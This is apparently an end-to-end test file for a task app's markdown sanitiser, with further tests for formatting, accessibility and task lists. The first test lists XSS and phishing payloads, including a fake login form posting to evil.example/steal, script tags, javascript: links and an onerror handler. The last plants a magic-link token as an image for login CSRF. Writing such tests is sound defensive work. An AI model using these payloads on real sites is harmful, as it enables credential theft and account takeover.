import AxeBuilder from "@axe-core/playwright";
import { expect, test, type Locator, type Page } from "@playwright/test";
import {
  mailedLink,
  signedInPerson,
  uniqueEmail,
  workspaceWithMember,
} from "./support/accounts.ts";
import { z } from "zod";
import { descriptionEditor } from "./support/description-editor.ts";
import { mutation, now, pushMutations } from "./support/sync-push.ts";
import { createProjectThroughSync } from "./support/sync.ts";

/** Every attack the description preview must defuse, with harmless markdown around it. */
const description = [
  "# Release notes",
  '<div style="position:fixed;inset:0;z-index:9999;background:red">Covers the page</div>',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><input type="text" name="user"><button>Log in again</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  "<script>window.pwned = 'script'</script>",
  "[a script link](javascript:window.pwned='link')",
  `<a href="javascript:window.pwned='html link'">another</a>`,
  `<img src="/no-such-image.png" onerror="window.pwned='onerror'">`,
  "![tracking pixel](https://evil.example/pixel.png)",
  "![the app's icon](/icons/icon.svg)",
  "- [x] shipped",
  "- [ ] announced",
  "",
  "**Bold**, _italic_, ~~gone~~, `code` and [the site](https://example.com/page).",
].join("\n\n");

/** What a text drawn from the attacks above holds: none of them, and its harmless parts. */
async function expectDefused(preview: Locator) {
  // The written overlay's style (the editor's node views set layout of their own only).
  const written = '[style*="z-index"], [style*="background"], [style*="inset"]';
  for (const selector of [written, "form", "iframe", "object", "embed", "script", "[onerror]"]) {
    await expect(preview.locator(selector), selector).toHaveCount(0);
  }
  await expect(preview.locator('input:not([type="checkbox"])')).toHaveCount(0);
  await expect(preview.locator('[href^="javascript"]')).toHaveCount(0);
  const checkboxes = preview.getByRole("checkbox");
  await expect(checkboxes).toHaveCount(2);
  await expect(checkboxes.first()).toBeChecked();
  await expect(checkboxes.first()).toHaveAccessibleName("shipped");
  await expect(checkboxes.last()).not.toBeChecked();
  const link = preview.getByRole("link", { name: "the site" });
  await expect(link).toHaveAttribute("href", "https://example.com/page");
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  // An image of this site other than an attachment's waits for a click too: an image is a GET
  // with the reader's cookies.
  await expect(preview.locator('button[data-alt="the app\'s icon"]')).toBeVisible();
  await expect(preview.getByRole("img", { name: "the app's icon" })).toHaveCount(0);
}

const onePixelPng = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

test("a description's markdown is shown without styles, forms, embeds, scripts or images that call home", async ({
  page,
}) => {
  const person = await signedInPerson("markdown");
  await page.context().addCookies(person.cookies);
  const projectId = await createProjectThroughSync(page.request, person.workspaceId, {
    name: "Website",
    key: "WEB",
  });
  const taskId = `tsk-md-${Date.now().toString(36)}`;
  await pushMutations(page.request, [
    mutation("createTask", {
      id: taskId,
      projectId,
      title: "Notes",
      description,
      createdAt: now(),
    }),
  ]);
  const outside: string[] = [];
  await page.route("https://evil.example/**", async (route) => {
    outside.push(route.request().url());
    await route.fulfill({ contentType: "image/png", body: onePixelPng });
  });

  // The same text as a comment: drawn read-only, from the same document model.
  await pushMutations(page.request, [
    mutation("addComment", { id: `${taskId}-c`, taskId, body: description, createdAt: now() }),
  ]);
  await page.goto(`/dashboard/workspace/${person.workspaceId}/project/${projectId}/task/${taskId}`);
  const comment = page.locator(".comment-body .markdown");
  await expect(comment.getByRole("heading", { name: "Release notes" })).toBeVisible();
  await expectDefused(comment);
  const preview = descriptionEditor(page);
  await expect(preview.getByRole("heading", { name: "Release notes" })).toBeVisible();
  await expectDefused(preview);

  // The external image waits for the reader: nothing has gone out yet.
  const load = preview.getByRole("button", { name: "Load image from evil.example" });
  await expect(load).toBeVisible();
  expect(outside).toEqual([]);
  expect(await page.evaluate(() => Reflect.get(window, "pwned"))).toBeUndefined();

  await load.click();
  const image = preview.getByRole("img", { name: "tracking pixel" });
  await expect(image).toHaveAttribute("src", "https://evil.example/pixel.png");
  await expect.poll(() => outside).toEqual(["https://evil.example/pixel.png"]);
  expect(await page.evaluate(() => Reflect.get(window, "pwned"))).toBeUndefined();
});

const formatted = [
  "# Launch plan",
  "## Scope",
  "### Details",
  "> Ship **before** the conference.",
  "```",
  "npm run release",
  "```",
  "Run `npm test` first, then read [the guide](https://example.com/guide).",
  "- [ ] Write the brief",
  "- [x] Book the room",
  "- [ ] Send invites",
].join("\n\n");

/** A signed-in owner's task whose description is `formatted`, with a markdown comment. */
async function taskWithFormattedDescription(page: Page) {
  const person = await signedInPerson("markdown");
  await page.context().addCookies(person.cookies);
  const projectId = await createProjectThroughSync(page.request, person.workspaceId, {
    name: "Events",
    key: "EVT",
  });
  const taskId = `tsk-fmt-${Date.now().toString(36)}`;
  await pushMutations(page.request, [
    mutation("createTask", {
      id: taskId,
      projectId,
      title: "Plan the launch",
      description: formatted,
      createdAt: now(),
    }),
    mutation("addComment", {
      id: `${taskId}-c`,
      taskId,
      body: "Looks **good**; see [the agenda](https://example.com/agenda).\n\n> quoted",
      createdAt: now(),
    }),
  ]);
  const taskUrl = `/dashboard/workspace/${person.workspaceId}/project/${projectId}/task/${taskId}`;
  return { ...person, projectId, taskId, taskUrl };
}

/** The task's markdown as the server's search reads it. */
async function taskDescription(page: Page, taskUrl: string): Promise<string> {
  const workspaceId = /\/workspace\/([^/]+)/.exec(taskUrl)?.[1] ?? "";
  const response = await page.request.get(`/api/workspaces/${workspaceId}/search?q=brief`);
  const { tasks } = z
    .object({ tasks: z.array(z.object({ description: z.string() })) })
    .parse(await response.json());
  return tasks[0]?.description ?? "";
}

const fontSize = (locator: Locator) =>
  locator.evaluate((element) => parseFloat(getComputedStyle(element).fontSize));

test("a description shows headings in a descending scale, a styled quote, code and links that look like links", async ({
  page,
}) => {
  const { taskUrl } = await taskWithFormattedDescription(page);
  await page.goto(taskUrl);
  // The editor, drawn as the read-only views draw markdown.
  const description = descriptionEditor(page);
  const h1 = description.getByRole("heading", { level: 1, name: "Launch plan" });
  const h2 = description.getByRole("heading", { level: 2, name: "Scope" });
  const h3 = description.getByRole("heading", { level: 3, name: "Details" });
  await expect(h3).toBeVisible();
  const [one, two, three, body] = await Promise.all([
    fontSize(h1),
    fontSize(h2),
    fontSize(h3),
    fontSize(description.locator("p").last()),
  ]);
  expect(one).toBeGreaterThan(two);
  expect(two).toBeGreaterThan(three);
  expect(three).toBeGreaterThan(body);

  const quote = description.locator("blockquote");
  await expect(quote).toContainText("Ship before the conference.");
  await expect(quote).toHaveCSS("border-left-style", "solid");
  await expect(description.locator("pre code")).toHaveText("npm run release");
  await expect(description.locator("p code")).toHaveText("npm test");
  await expect(description.locator("pre")).toHaveCSS("font-family", /mono/i);

  const link = description.getByRole("link", { name: "the guide" });
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", /noopener/);
  await expect(link).toHaveCSS("text-decoration-line", "underline");
  const colours = await link.evaluate((element) => [
    getComputedStyle(element).color,
    getComputedStyle(element.parentElement ?? element).color,
  ]);
  expect(colours[0]).not.toBe(colours[1]);

  // A comment is markdown too.
  const comment = page.getByRole("listitem", { name: /^Comment by/ });
  await expect(comment.locator(".markdown strong")).toHaveText("good");
  await expect(comment.getByRole("link", { name: "the agenda" })).toBeVisible();
  await expect(comment.locator("blockquote")).toHaveText("quoted");
  await expect(comment).not.toContainText("**");

  // Without motion, the switched theme's colours are final at once (no transition for axe).
  await page.emulateMedia({ reducedMotion: "reduce" });
  for (const theme of ["dark", "light"] as const) {
    await page.evaluate((name) => {
      document.documentElement.dataset.theme = name;
      document.documentElement.style.colorScheme = name;
    }, theme);
    expect(await seriousViolations(page, ".markdown"), theme).toEqual([]);
  }
});

/** What axe finds serious or critical inside the elements `selector` matches. */
async function seriousViolations(page: Page, selector: string) {
  const results = await new AxeBuilder({ page }).include(selector).analyze();
  return results.violations
    .filter((violation) => violation.impact === "serious" || violation.impact === "critical")
    .map((violation) => ({
      rule: violation.id,
      nodes: violation.nodes.map((node) => node.target.join(" ")),
    }));
}

test("a description's task list ticks by pointer and by keyboard, labelled by each item, and the change is saved", async ({
  page,
}) => {
  const { taskUrl } = await taskWithFormattedDescription(page);
  await page.goto(taskUrl);
  const description = page.getByRole("region", { name: "Description" });
  const brief = description.getByRole("checkbox", { name: "Write the brief" });
  const room = description.getByRole("checkbox", { name: "Book the room" });
  const invites = description.getByRole("checkbox", { name: "Send invites" });
  await expect(room).toBeChecked();
  await expect(brief).not.toBeChecked();

  await brief.click();
  await expect(brief).toBeChecked();

  // A checkbox reached by the keyboard ticks with Space, and the caret goes back to the text.
  await invites.focus();
  await page.keyboard.press("Space");
  await expect(invites).toBeChecked();
  await expect(descriptionEditor(page)).toBeFocused();
  await invites.focus();
  await page.keyboard.press("Space");
  await expect(invites).not.toBeChecked();

  await room.click();
  await expect(room).not.toBeChecked();

  // The document itself changed: its markdown says so, and a reload brings it back.
  await expect
    .poll(async () => (await taskDescription(page, taskUrl)).includes("[x] Write the brief"))
    .toBe(true);
  await page.reload();
  await expect(description.getByRole("checkbox", { name: "Write the brief" })).toBeChecked();
  await expect(description.getByRole("checkbox", { name: "Book the room" })).not.toBeChecked();
});

test("the public page renders a task's markdown read-only, and search shows its description as plain text", async ({
  page,
  browser,
}) => {
  const { taskUrl, projectId, workspaceId } = await taskWithFormattedDescription(page);
  await pushMutations(page.request, [
    mutation("updateProject", { id: projectId, isPublic: true, updatedAt: now() }),
  ]);

  const visitor = await browser.newContext();
  const publicPage = await visitor.newPage();
  await publicPage.goto(`/public-project/${projectId}`);
  await publicPage.getByRole("button", { name: /Plan the launch/ }).click();
  const dialog = publicPage.getByRole("dialog", { name: "Task" });
  await expect(dialog.getByRole("heading", { level: 1, name: "Launch plan" })).toBeVisible();
  await expect(dialog.locator("blockquote")).toContainText("Ship before the conference.");
  await expect(dialog.getByRole("link", { name: "the guide" })).toBeVisible();
  const brief = dialog.getByRole("checkbox", { name: "Write the brief" });
  await expect(brief).toBeDisabled();
  await expect(brief).not.toBeChecked();
  expect(await seriousViolations(publicPage, ".public-task .markdown")).toEqual([]);
  await visitor.close();

  await page.goto(taskUrl);
  await page.goto(`/dashboard/workspace/${workspaceId}/search?q=conference`);
  const hit = page.getByTestId("search-results").getByRole("link").first();
  await expect(hit).toContainText("Ship before the conference.");
  await expect(hit).toContainText("Write the brief");
  for (const syntax of ["**", "# ", "[ ]", "](", "```", "`"]) {
    await expect(hit).not.toContainText(syntax);
  }
});

test("an image in a comment that points at a sign-in link of the app loads nothing, and the reader stays themselves", async ({
  page,
  browser,
  playwright,
}) => {
  const { workspaceId, ownerEmail, memberContext } = await workspaceWithMember(page, browser, {
    owner: "Reader Ruth",
    member: "Mallory Member",
    workspace: "Planted",
  });
  // Mallory asks for a sign-in link to an account of her own and plants it as an image.
  const signedOut = await playwright.request.newContext({ baseURL: process.env.E2E_BASE_URL });
  const attacker = uniqueEmail("mallory-alt");
  await signedOut.post("/api/auth/sign-in/magic-link", {
    data: { email: attacker },
    headers: { Origin: process.env.E2E_BASE_URL ?? "" },
  });
  const token = new URL(await mailedLink(signedOut, attacker, "magic-link")).searchParams.get(
    "token",
  );
  await signedOut.dispose();
  const projectId = await createProjectThroughSync(memberContext.request, workspaceId, {
    name: "Site",
    key: "SITE",
  });
  const taskId = `tsk-img-${Date.now().toString(36)}`;
  await pushMutations(memberContext.request, [
    mutation("createTask", { id: taskId, projectId, title: "Look at this", createdAt: now() }),
    mutation("addComment", {
      id: `${taskId}-c`,
      taskId,
      body: `Looks fine ![ok](/api/auth/magic-link/verify?token=${token}) to me`,
      createdAt: now(),
    }),
  ]);
  const signInRequests: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("/api/auth/magic-link/verify")) signInRequests.push(request.url());
  });

  await page.goto(`/dashboard/workspace/${workspaceId}/project/${projectId}/task/${taskId}`);

  await expect(page.getByText("Looks fine")).toBeVisible();
  await expect(page.locator('button[data-alt="ok"]')).toBeVisible();
  expect(signInRequests).toEqual([]);
  const session = await page.request.get("/api/auth/get-session");
  expect(await session.json()).toMatchObject({ user: { email: ownerEmail } });
  await memberContext.close();
});
